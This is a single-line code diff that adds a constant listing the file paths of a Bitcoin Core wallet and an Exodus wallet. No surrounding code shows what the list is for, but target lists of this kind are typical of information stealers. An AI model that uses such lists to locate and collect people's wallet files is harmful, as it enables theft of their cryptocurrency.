@@ -1,0 +1,1 @@
+WALLETS = [HOME + "/.bitcoin/wallet.dat", APPDATA + "/Exodus/exodus.wallet"]
